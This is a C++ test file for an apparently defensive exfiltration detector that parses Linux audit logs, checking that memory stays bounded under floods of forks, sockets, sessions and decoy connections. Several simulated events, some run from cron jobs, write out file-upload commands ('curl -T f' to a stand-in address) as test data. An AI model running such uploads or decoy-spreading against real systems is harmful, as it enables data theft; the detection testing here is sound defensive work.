#include <algorithm>
#include <optional>

#include "host_with_cron.hpp"

/// What a hostile local user can grow costs bounded memory and linear time, and is counted.
namespace auexfil::test {
namespace {

/// Events without a text in between: a million of them in little time.
class Stream {
 public:
  explicit Stream(host::Tracker::Options options = {}, transfer::TransferBuilder::Options book = {})
      : builder_(rules().tools, rules().signs, book), tracker_(options, builder_) {
    builder_.attach(tracker_);
    syscall_.type = audit::type::kSyscall;
    sockaddr_.type = audit::type::kSockaddr;
    execve_.type = audit::type::kExecve;
  }

  void call(std::uint32_t number, std::int64_t exit, std::uint32_t ppid, std::uint32_t pid,
            std::uint64_t a0 = 0, std::uint64_t a1 = 0, std::uint64_t a2 = 0,
            std::string_view saddr = {}, std::string_view execve = {}) {
    args_ = audit::Syscall{};
    args_.arch = kX86_64;
    args_.number = number;
    args_.exit = exit;
    args_.has_exit = true;
    args_.success = exit >= 0;
    args_.a[0] = a0;
    args_.a[1] = a1;
    args_.a[2] = a2;
    args_.ppid = ppid;
    args_.pid = pid;
    syscall_.body = tail_;
    std::size_t records = 0;
    records_[records++] = &syscall_;
    if (!saddr.empty()) {
      sockaddr_.body = saddr;
      records_[records++] = &sockaddr_;
    }
    if (!execve.empty()) {
      execve_.body = execve;
      records_[records++] = &execve_;
    }
    audit::Event event;
    event.stamp = {1'796'173'200'000 + serial_, ++serial_};
    event.records = {records_, records};
    event.syscall = &args_;
    tracker_.take(event);
  }
  void program(std::string_view exe, std::uint32_t ses = 5) {
    tail_ = fmt::format(" auid=1000 uid=1000 tty=(none) ses={} comm=\"x\" exe=\"{}\" key=\"t\"",
                        ses, exe);
  }
  host::Tracker& tracker() { return tracker_; }
  transfer::TransferBuilder& book() { return builder_; }
  std::vector<facts::Fact> facts() {
    tracker_.finish();
    builder_.close();
    std::vector<facts::Fact> all;
    facts::HostName name;
    name.file_name = [](std::uint32_t) { return std::string("audit.log"); };
    test::Taking taking([&](const facts::Fact& fact) { all.push_back(fact); });
    facts::make_facts(builder_, name, coverage::visibility_of(tracker_.tally()), nullptr, taking);
    return all;
  }
  [[nodiscard]] std::uint64_t bound(const std::string& name) {
    auto bounds = tracker_.bounds();
    bounds.merge(builder_.bounds());
    const auto found = bounds.find(name);
    return found == bounds.end() ? 0 : found->second;
  }

 private:
  transfer::TransferBuilder builder_;
  host::Tracker tracker_;
  std::string tail_ =
      " auid=1000 uid=1000 tty=(none) ses=5 comm=\"x\" exe=\"/usr/bin/x\" key=\"t\"";
  audit::Syscall args_;
  audit::Record syscall_;
  audit::Record sockaddr_;
  audit::Record execve_;
  const audit::Record* records_[3] = {};
  std::uint32_t serial_ = 0;
};

constexpr std::uint32_t kMillion = 1'000'000;

}  // namespace

TEST_CASE("bounds: a million children") {
  Stream stream;
  for (std::uint32_t i = 0; i < kMillion; ++i) {
    stream.call(56, 1000 + i, 1, 900, 0x1200011);
  }
  CHECK(stream.bound("processes") > 700'000);
  CHECK(stream.facts().empty());
}

TEST_CASE("bounds: a million generations, each a child of the last, each with a table of its own") {
  Stream stream;
  for (std::uint32_t fd = 3; fd < 1000; ++fd) {
    stream.call(41, fd, 1, 900, 2, 1);
  }
  for (std::uint32_t i = 0; i < kMillion / 4; ++i) {
    stream.call(56, 1000 + i, 1, 900, 0x1200011);
    stream.call(3, 0, 900, 1000 + i, 3 + i % 900);  // the child changes its copy, and lives on
  }
  CHECK(stream.bound("descriptors") > 0);
  CHECK(stream.facts().empty());
}

TEST_CASE("bounds: a million descriptors") {
  Stream stream;
  for (std::uint32_t i = 0; i < kMillion; ++i) {
    stream.call(41, 3 + (i * 7919) % kMillion, 1, 900, 2, 1);
  }
  CHECK(stream.bound("descriptors") > 900'000);
  CHECK(stream.facts().empty());
}

TEST_CASE("bounds: a million sockets to as many peers, of one program") {
  Stream stream;
  for (std::uint32_t i = 0; i < kMillion / 2; ++i) {
    const std::string peer = "saddr=" + saddr(fmt::format("203.{}.{}.9", i / 256 % 256, i % 256),
                                              static_cast<int>(1024 + i / 65536));
    stream.call(41, 3, 1, 900, 2, 1);
    stream.call(42, 0, 1, 900, 3, 0x7f, 16, peer);
    stream.call(1, 10, 1, 900, 3, 0x7f, 10);
    stream.call(3, 0, 1, 900, 3);
  }
  CHECK(stream.bound("connections") > 400'000);
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].bytes_out == 10U * (kMillion / 2));
  CHECK(has_note(facts[0], "lighter connections to other addresses"));
  CHECK(facts[0].basis == transfer::Basis::at_least);
}

TEST_CASE("bounds: one datagram socket, a million peers") {
  Stream stream;
  stream.call(41, 3, 1, 900, 2, 2);
  for (std::uint32_t i = 0; i < kMillion; ++i) {
    const std::string peer = "saddr=" + saddr(fmt::format("203.0.{}.{}", i / 200 % 250, i % 200),
                                              static_cast<int>(1024 + i % 5));
    stream.call(44, 10, 1, 900, 3, 0x7f, 10, peer);
  }
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].bytes_out == 10U * kMillion);
  CHECK(stream.bound("connections") > 0);
}

namespace {

/// A daemon that opens one connection after the other, each to an address of its own.
class Spreader {
 public:
  explicit Spreader(Stream& stream) : stream_(stream) {}

  void send(std::string_view address, int port, std::int64_t bytes) {
    stream_.call(41, 3, 1, 900, 2, 1);
    stream_.call(42, 0, 1, 900, 3, 0x7f, 16, "saddr=" + saddr(address, port));
    stream_.call(1, bytes, 1, 900, 3, 0x7f, static_cast<std::uint64_t>(bytes));
    stream_.call(3, 0, 1, 900, 3);
  }
  void send_to_decoys(std::uint32_t from, std::uint32_t count, int port, std::int64_t bytes) {
    for (std::uint32_t i = from; i < from + count; ++i) {
      send(fmt::format("198.51.{}.{}", i / 250, 1 + i % 250), port, bytes);
    }
  }

 private:
  Stream& stream_;
};

transfer::TransferBuilder::Options small_book() {
  transfer::TransferBuilder::Options options;
  options.max_connections = 20;
  return options;
}

/// The sum of those that are not told apart.
const facts::Destination& sum_of(const facts::Fact& fact) {
  const auto found = std::find_if(fact.destinations.begin(), fact.destinations.end(),
                                  [](const facts::Destination& d) { return d.addresses > 0; });
  REQUIRE(found != fact.destinations.end());
  return *found;
}

}  // namespace

TEST_CASE("bounds: what comes last and is heavy is told, what is light is one sum") {
  Stream stream({}, small_book());
  Spreader spreader(stream);
  spreader.send_to_decoys(0, 90, 8080, 10);
  spreader.send(kDrop, 443, 500'000'000);
  spreader.send_to_decoys(90, 90, 8080, 10);
  CHECK(stream.bound("connections") > 100);
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  REQUIRE(destination(facts[0], kDrop) != nullptr);
  CHECK(destination(facts[0], kDrop)->bytes_out == 500'000'000U);
  CHECK(facts[0].bytes_out == 500'001'800U);
  const facts::Destination& sum = sum_of(facts[0]);
  CHECK(!sum.address);
  CHECK(!sum.name);
  CHECK(sum.source == transfer::Source::connect);
  CHECK(sum.basis != transfer::Basis::measured);
  CHECK(sum.bytes_out == 10 * sum.connections);
  CHECK(sum.addresses > sum.connections * 9 / 10);
  CHECK(sum.addresses <= sum.connections);
  CHECK(has_note(facts[0], "lighter connections to other addresses are told as one sum"));
}

TEST_CASE("bounds: a slow drip among decoys adds up") {
  Stream stream({}, small_book());
  Spreader spreader(stream);
  for (std::uint32_t i = 0; i < 200; ++i) {
    spreader.send(kDrop, 443, 1000);
    spreader.send_to_decoys(i * 4, 4, 443, 1000);
  }
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  REQUIRE(destination(facts[0], kDrop) != nullptr);
  CHECK(destination(facts[0], kDrop)->bytes_out > 190'000U);
  CHECK(facts[0].bytes_out == 1'000'000U);
}

TEST_CASE("bounds: decoys that are heavier than the next drive nothing out of the sum") {
  Stream stream({}, small_book());
  Spreader spreader(stream);
  for (std::uint32_t i = 0; i < 100; ++i) {
    spreader.send_to_decoys(i * 10, 10, 443, 1000 + i);
    spreader.send(kDrop, 443, 100);
  }
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  std::uint64_t total = 0;
  for (const facts::Destination& d : facts[0].destinations) {
    total += d.bytes_out.value_or(0);
  }
  CHECK(total == 10'000U + 1'000'000U + 10 * 4950U);
  CHECK(facts[0].bytes_out == total);
  CHECK(facts[0].basis != transfer::Basis::measured);
}

TEST_CASE("bounds: one address under many ports stays one address") {
  Stream stream({}, small_book());
  Spreader spreader(stream);
  for (int port = 2000; port < 2300; ++port) {
    spreader.send(kDrop, port, 1'000'000);
  }
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].bytes_out == 300'000'000U);
  for (const facts::Destination& d : facts[0].destinations) {
    CHECK(d.address == audit::IpAddress::parse(kDrop));
    CHECK(d.addresses <= 1);
  }
}

TEST_CASE("bounds: sums below port 1024 keep their port, for the rules that ask for it") {
  Stream stream({}, small_book());
  Spreader spreader(stream);
  spreader.send_to_decoys(0, 100, 21, 50'000);
  spreader.send_to_decoys(100, 100, 443, 70'000);
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  std::map<std::optional<std::uint16_t>, std::uint64_t> by_port;
  for (const facts::Destination& d : facts[0].destinations) {
    by_port[d.port] += d.bytes_out.value_or(0);
  }
  CHECK(by_port[std::uint16_t{21}] == 5'000'000U);
  CHECK(by_port[std::uint16_t{443}] == 7'000'000U);
}

TEST_CASE("bounds: a server's peers are no client's destinations") {
  Stream stream({}, small_book());
  stream.call(41, 3, 1, 900, 2, 1);
  stream.call(49, 0, 1, 900, 3, 0x7f, 16, "saddr=" + saddr("0.0.0.0", 443));
  stream.call(50, 0, 1, 900, 3, 16);
  for (std::uint32_t i = 0; i < 3000; ++i) {
    const std::string peer =
        "saddr=" + saddr(fmt::format("203.0.113.{}", 1 + i % 200), static_cast<int>(1024 + i));
    stream.call(43, 4, 1, 900, 3, 0x7f, 0x7f, peer);
    stream.call(1, 1000, 1, 900, 4, 0x7f, 1000);
    stream.call(3, 0, 1, 900, 4);
  }
  std::uint64_t total = 0;
  for (const facts::Fact& fact : stream.facts()) {
    CHECK(fact.side == transfer::Side::server);
    total += fact.bytes_out.value_or(0);
  }
  CHECK(total == 3'000'000U);
}

TEST_CASE("bounds: many connections of few peers of a server are no bound") {
  Stream stream({}, small_book());
  stream.call(41, 3, 1, 900, 2, 1);
  stream.call(49, 0, 1, 900, 3, 0x7f, 16, "saddr=" + saddr("0.0.0.0", 443));
  for (std::uint32_t i = 0; i < 3000; ++i) {
    const std::string peer =
        "saddr=" + saddr(fmt::format("203.0.113.{}", 1 + i % 5), static_cast<int>(1024 + i));
    stream.call(43, 4, 1, 900, 3, 0x7f, 0x7f, peer);
    stream.call(1, 1000, 1, 900, 4, 0x7f, 1000);
    stream.call(3, 0, 1, 900, 4);
  }
  CHECK(stream.bound("connections") == 0);
}

TEST_CASE("bounds: a datagram socket's heavy peer is told, whenever it comes") {
  host::Tracker::Options options;
  options.max_peers = 16;
  Stream stream(options, small_book());
  stream.call(41, 3, 1, 900, 2, 2);
  const auto send = [&](const std::string& address, std::uint64_t bytes) {
    stream.call(44, static_cast<std::int64_t>(bytes), 1, 900, 3, 0x7f, bytes,
                "saddr=" + saddr(address, 4000));
  };
  for (std::uint32_t i = 0; i < 1000; ++i) {
    send(fmt::format("198.51.100.{}", 1 + i % 250), 10);
    if (i % 100 == 50) {
      send(kDrop, 1'000'000);
    }
  }
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  REQUIRE(destination(facts[0], kDrop) != nullptr);
  CHECK(destination(facts[0], kDrop)->bytes_out == 10'000'000U);
  CHECK(facts[0].bytes_out == 10'010'000U);
}

TEST_CASE("bounds: of an invocation for which there is no room no text is kept either") {
  transfer::TransferBuilder::Options options;
  options.open_invocations = 1;
  options.max_invocations = 3;
  Log log;
  log.there(300, 1, "/usr/sbin/cron");
  for (int i = 0; i < 500; ++i) {
    const int script = 1000 + 2 * i;
    const int pid = script + 1;
    log.run(300, script, "/opt/up/script" + std::to_string(i), {"script", std::to_string(i)});
    log.run(script, pid, "/opt/up/sender", {"sender", "--job", std::to_string(i)});
    log.tcp(pid, 3, kDrop, 443);
    log.send(pid, 3, 1'000'000);
    log.close(pid, 3);
    log.exit(pid);
    log.exit(script);
  }
  const Told told = tell_host(log.text(), {}, options);
  CHECK(told.builder->bounds().at("invocations") == 497);
  CHECK(told.builder->store().parts() < 100);
  std::uint64_t total = 0;
  for (const facts::Fact& fact : told.facts) {
    total += fact.bytes_out.value_or(0);
  }
  CHECK(total == 500'000'000U);
}

TEST_CASE("bounds: invocations for which there is no room are one sum that nobody is known of") {
  for (const bool open : {false, true}) {
    CAPTURE(open);
    transfer::TransferBuilder::Options options;
    options.open_invocations = 1;
    (open ? options.max_runs : options.max_invocations) = 3;
    Log log;
    log.there(300, 1, "/usr/sbin/cron");
    for (int i = 0; i < 10; ++i) {
      const int pid = 1000 + i;
      log.run(300, pid, "/opt/up/sender", {"sender"});
      log.tcp(pid, 3, kDrop, 443);
      log.send(pid, 3, 1'000'000);
      log.close(pid, 3);
      if (!open) {
        log.exit(pid);
      }
    }
    const Told told = tell_host(log.text(), {}, options);
    CHECK(told.builder->bounds().at("invocations") == 7);
    REQUIRE(told.facts.size() == 4);
    std::uint64_t total = 0;
    for (const facts::Fact& fact : told.facts) {
      total += fact.bytes_out.value_or(0);
      CHECK(fact.automation != transfer::Verdict::attended);
    }
    CHECK(total == 10'000'000U);
  }
}

TEST_CASE("bounds: sockets that stay open") {
  Stream stream;
  const std::string peer = "saddr=" + saddr(kDrop, 80);
  for (std::uint32_t i = 0; i < kMillion; ++i) {
    // every process holds some, none is seen to end
    stream.call(41, 3 + i % 8, 1, 1000 + i / 8, 2, 1);
    stream.call(42, 0, 1, 1000 + i / 8, 3 + i % 8, 0x7f, 16, peer);
  }
  CHECK(stream.bound("sockets") > 0);
}

TEST_CASE("bounds: as many sessions") {
  host::Tracker::Options options;
  options.max_sessions = 1000;
  Log log;
  log.there(300, 1, "/usr/sbin/cron");
  for (std::uint32_t ses = 1; ses <= 20'000; ++ses) {
    log.login(300, 0, ses);
  }
  const Told told = tell_host(log.text(), options);
  CHECK(told.tracker->bounds().at("sessions") == 19'000);
  CHECK(told.tracker->find_session(0, 20'000) != nullptr);
  CHECK(told.tracker->find_session(0, 1) == nullptr);
}

TEST_CASE("bounds: sessions that are over are forgotten, of which nothing is alive") {
  Log log;
  log.there(300, 1, "/usr/sbin/cron");
  const auto session = [&](int child, std::uint32_t ses, bool ends) {
    log.fork(300, child);
    log.login(child, 0, ses);
    log.user("USER_START", child, "PAM:session_open", "cron");
    if (ends) {
      log.user("USER_END", child, "PAM:session_close", "cron");
      log.exit(child);
    }
  };
  session(400, 1, false);
  for (std::uint32_t ses = 2; ses <= 20'000; ++ses) {
    session(1000 + static_cast<int>(ses % 1000), ses, ses != 3);
  }
  const Told told = tell_host(log.text());
  CHECK(told.tracker->bounds().empty());
  CHECK(told.tracker->find_session(0, 1) != nullptr);  // a process of it lives
  CHECK(told.tracker->find_session(0, 2) == nullptr);
  CHECK(told.tracker->find_session(0, 3) != nullptr);  // its end is not in the log
  CHECK(told.tracker->find_session(0, 10'000) == nullptr);
  CHECK(told.tracker->find_session(0, 17'000) != nullptr);
  CHECK(told.tracker->find_session(0, 20'000) != nullptr);
}

TEST_CASE("bounds: distinct arguments without end leave room for what lives") {
  host::Tracker::Options options;
  options.max_string_bytes = 1 << 20;
  Stream stream(options);
  for (std::uint32_t i = 0; i < 200'000; ++i) {
    stream.call(59, 0, 1, 1000 + i % 50, 0, 0, 0, {},
                fmt::format("argc=2 a0=\"x\" a1=\"argument-number-{:012}\"", i));
  }
  // Ten times as much as fits has gone by. A job that comes now is still told in full.
  stream.program("/usr/bin/curl");
  stream.call(59, 0, 1, 700, 0, 0, 0, {},
              "argc=4 a0=\"curl\" a1=\"-T\" a2=\"f\" a3=\"http://203.0.113.9/\"");
  stream.call(41, 3, 1, 700, 2, 1);
  stream.call(42, 0, 1, 700, 3, 0x7f, 16, "saddr=" + saddr(kDrop, 80));
  stream.call(44, 150, 1, 700, 3, 0x7f, 150);
  stream.call(3, 0, 1, 700, 3);
  const auto facts = stream.facts();
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].tool == "curl");
  REQUIRE(facts[0].process.argv.size() == 4);
  CHECK(facts[0].process.argv[3] == "http://203.0.113.9/");
}

TEST_CASE("bounds: one process's arguments") {
  host::Tracker::Options options;
  options.argv.max_bytes = 1000;
  Log log;
  log.fork(1, 400);
  std::vector<std::string> argv = {"/usr/bin/curl", "-T", "f", "http://203.0.113.9/"};
  for (int i = 0; i < 500; ++i) {
    argv.push_back("argument");
  }
  log.exec(400, "/usr/bin/curl", argv);
  log.tcp(400, 3, kDrop, 80);
  log.send(400, 3, 10);
  log.close(400, 3);
  log.exit(400);
  const auto facts = tell(log, options);
  REQUIRE(facts.size() == 1);
  CHECK(has_note(facts[0], "not in the log whole"));
}

TEST_CASE("bounds: pids beyond what a kernel gives are counted, not followed") {
  Stream stream;
  for (std::uint32_t i = 0; i < 1000; ++i) {
    stream.call(1, 10, 1, 5'000'000 + i, 3);
    stream.call(56, 4'000'000'000LL, 1, 900, 0x1200011);
  }
  CHECK(stream.bound("pids") == 2000);
}

TEST_CASE("bounds: forgetting processes does not forget who started the next job") {
  host::Tracker::Options options;
  options.max_processes = 200;
  Log log;
  log.titles = false;
  log.there(300, 1, "/usr/sbin/cron");
  log.there(666, 1, "/opt/bomb");
  for (int i = 0; i < 5000; ++i) {
    log.fork(666, 10'000 + i);
  }
  log.fork(300, 301);
  log.exec(301, "/usr/bin/dash", {"/bin/sh", "-c", "job"});
  for (int i = 0; i < 150; ++i) {
    log.fork(666, 20'000 + i);
  }
  log.run(301, 302, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(302, 3, kDrop, 80);
  log.send(302, 3, 150);
  log.close(302, 3);
  log.exit(302);
  const auto facts = tell(log, options);
  REQUIRE(facts.size() == 1);
  CHECK(sign_of(facts[0]) == "unattended cron");
}

}  // namespace auexfil::test
